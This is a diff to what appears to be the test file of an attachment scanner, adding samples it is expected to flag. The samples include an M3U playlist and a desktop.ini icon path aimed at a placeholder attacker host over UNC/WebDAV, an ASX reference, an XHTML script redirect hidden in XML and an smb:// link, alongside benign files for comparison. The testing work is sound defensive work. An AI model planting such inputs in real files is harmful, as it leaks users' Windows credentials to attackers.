@@ -283,13 +283,20 @@ LEADS: dict[str, bytes] = {
     "signed mail": samples.signed(f"Content-Type: text/plain\r\n\r\nVoir {EVIL}\r\n".encode()),
     "signed mail in long lengths": samples.signed(f"Content-Type: text/plain\r\n\r\n{EVIL}\r\n".encode(), long=True),
     "signed mail without a header": samples.signed(f"\r\nVoir {EVIL}\r\n".encode(), in_parts=True),
+    "list of songs": f"#EXTM3U\r\nfile://{EVIL[8:24]}@SSL/go/abc\r\n".encode(),
+    "look of a folder": f"[.ShellClassInfo]\r\nIconResource=\\\\{EVIL[8:24]}@SSL\\go\\abc\r\n".encode(),
+    "list of films": f"<asx version='3.0'><entry><ref href='{EVIL}'/></entry></asx>".encode(),
+    "page in another XML": (
+        f"<?xml version='1.0'?><r><h:script xmlns:h='http://www.w3.org/1999/xhtml'>location='{EVIL}'</h:script></r>".encode()
+    ),
+    "page, a share of another program": f"<html><a href='smb://{EVIL[8:24]}'>Voir</a></html>".encode(),
     "signed mail in PEM": armoured(samples.signed(f"\r\nVoir {EVIL}\r\n".encode()), "PKCS7"),
     "signed mail in PEM, behind a text": b"Dossier signe\n" + armoured(cms(1, f"Voir {EVIL} ".encode()), "CMS"),
     "signed mail in base64": b64encode(samples.signed(f"\r\nVoir {EVIL}\r\n".encode(), in_parts=True)),
     "digested mail": cms(5, f"\r\nVoir {EVIL}\r\n".encode()),
     "mail in CMS alone": cms(1, f"\r\nVoir {EVIL}\r\n".encode()),
 }  # fmt: skip
-BY_HOST = {"remote desktop", "remote desktop, its gateway"}
+BY_HOST = {"remote desktop", "remote desktop, its gateway", "page, a share of another program"}
 HELD: dict[str, tuple[bytes, str]] = {
     "page with a program": (
         page(f"a.download='Facture.exe'; d='{b64encode(EXE).decode()}'"),
@@ -383,6 +390,10 @@ HELD: dict[str, tuple[bytes, str]] = {
         kinds.ACTIVE_PAGE,
     ),
     "signed program in PEM": (armoured(samples.signed(EXE), "PKCS7"), kinds.PROGRAM),
+    "page in another XML": (
+        zipped(("f.xml", b"<r><h:script xmlns:h='http://www.w3.org/1999/xhtml'>location=1</h:script></r>")),
+        kinds.ACTIVE_PAGE,
+    ),
     "sandbox": (zipped(("a.wsb", b"<Configuration/>")), kinds.PROGRAM),
     "update of Windows": (zipped(("a.msu", b"MSCF")), kinds.PROGRAM),
     "remote desktop": (packed(bureau__rdp=b"full address:s:evil.example.net\r\n"), kinds.PROGRAM),
@@ -437,6 +448,8 @@ WEEKLY: dict[str, bytes] = {
     "7z of an architect": samples.made("7zip", "none", {"plan.dwg": b"AC1032", "notice.pdf": samples.pdf()}),
     "signature": samples.signed(b""),
     "signature in PEM": armoured(samples.signed(b""), "PKCS7"),
+    "feed": b"<feed xmlns='http://www.w3.org/2005/Atom'><div xmlns='http://www.w3.org/1999/xhtml'><p>x</p></div></feed>",
+    "list of shares near by": b"\\\\SRV\\commun\r\n\\\\srv.mairie.lan\\x\r\nfile:///C:/x.y/z\r\nC:\\\\a.b\\\\c\r\n",
     "certificate": armoured(b"0\x82\3\x09" + bytes(600), "CERTIFICATE"),
     "text that begins like one": b"MINUTES du conseil municipal\n" * 20,
     "export of TIPI": b"ID;nom;montant\r\n1;Dupont;12,50\r\n",
